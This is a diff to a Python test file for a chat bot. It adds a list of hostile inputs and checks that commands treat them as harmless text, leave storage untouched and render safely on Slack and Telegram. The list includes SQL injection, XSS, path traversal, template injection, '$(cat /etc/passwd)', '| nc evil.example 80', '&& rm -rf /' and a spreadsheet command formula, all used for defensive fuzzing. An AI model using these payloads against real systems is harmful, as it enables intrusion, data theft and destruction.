@@ -12,9 +12,12 @@ from bot.commands.desk import Desk
 from bot.commands.grammar import VERBS
 from bot.domain.message import Message
 from bot.domain.watch import MOST_RULES
+from bot.platforms.slack.render import to_text
+from bot.platforms.telegram.render import to_html
 from bot.reading import gazetteer
 from storage import Storage
 from tests.commands.conftest import FEEDS, GROUP, MEMBER, Chat, Clock
+from tests.oracles.tdlib import parse_html
 
 WAIT = timedelta(seconds=10)  # no faster than anybody may ask
 PAYLOADS = (
@@ -59,6 +62,38 @@ PAYLOADS = (
     "٣",
     "NaN",
 )
+# Each of these in each of those places: with PAYLOADS, over two hundred.
+_HOSTILE = (
+    "' OR '1'='1",
+    '"; DROP TABLE channel; --',
+    "admin'--",
+    "1 UNION SELECT value, 2 FROM meta",
+    "x'; ATTACH DATABASE '/tmp/x' AS y; --",
+    "{self.__init__.__globals__}",
+    "{0!r:>{1}}",
+    "%(asctime)s %n %x",
+    "$(cat /etc/passwd)",
+    "| nc evil.example 80",
+    "&& rm -rf /",
+    "%2e%2e%2fetc%2fpasswd",
+    "..\\..\\windows\\win.ini",
+    "file:///etc/passwd",
+    "<img src=x onerror=alert(1)>",
+    "</b><b>",
+    "&lt;script&gt;",
+    "javascript:alert(1)",
+    "tg://user?id=1",
+    "<!here|here> <@W1|x>",
+    "<javascript:alert(1)|x>",
+    "*_~`>",
+    "[x](tg://user?id=1)",
+    "{{7*7}}",
+    "<%= 7*7 %>",
+    "\\x00\\u202e",
+    "=cmd|' /C calc'!A0",
+)
+_PLACES = ("{}", '"{}"', "country:{}", 'text:"{}"', "Norway {}", "-topic:{}", "17 {}")
+ALL = (*PAYLOADS, *(place.format(text) for text in _HOSTILE for place in _PLACES))
 COMMANDS = (*(f"/{verb}" for verb in VERBS), "/pactwatch", "/xyzzy", "")
 
 
@@ -78,14 +113,18 @@ def is_harmless(message: Message) -> bool:
     )
 
 
+@pytest.mark.case("H4")
 @pytest.mark.parametrize("command", COMMANDS)
 def test_a_hostile_argument_is_only_text(command: str, alice: Chat, storage: Storage) -> None:
     before = schema(storage)
 
-    for payload in PAYLOADS:
+    for payload in ALL:
         alice.clock.now += WAIT
         message = alice.says(f"{command} {payload}")
         assert message is None or is_harmless(message), (command, payload, message)
+        if message:
+            assert not parse_html(to_html(message)).refusal
+            assert "<" not in to_text(message)
 
     assert schema(storage) == before
     assert len(storage.subscriptions.of(alice.channel)) <= MOST_RULES
@@ -103,6 +142,11 @@ def test_a_hostile_argument_changes_nothing_for_a_member(
 
     assert not storage.subscriptions.of(GROUP)
     assert storage.channels.muted_until(GROUP) is None
+
+
+@pytest.mark.case("H4")
+def test_there_are_two_hundred_payloads_and_more() -> None:
+    assert len(set(ALL)) > 200
 
 
 @given(
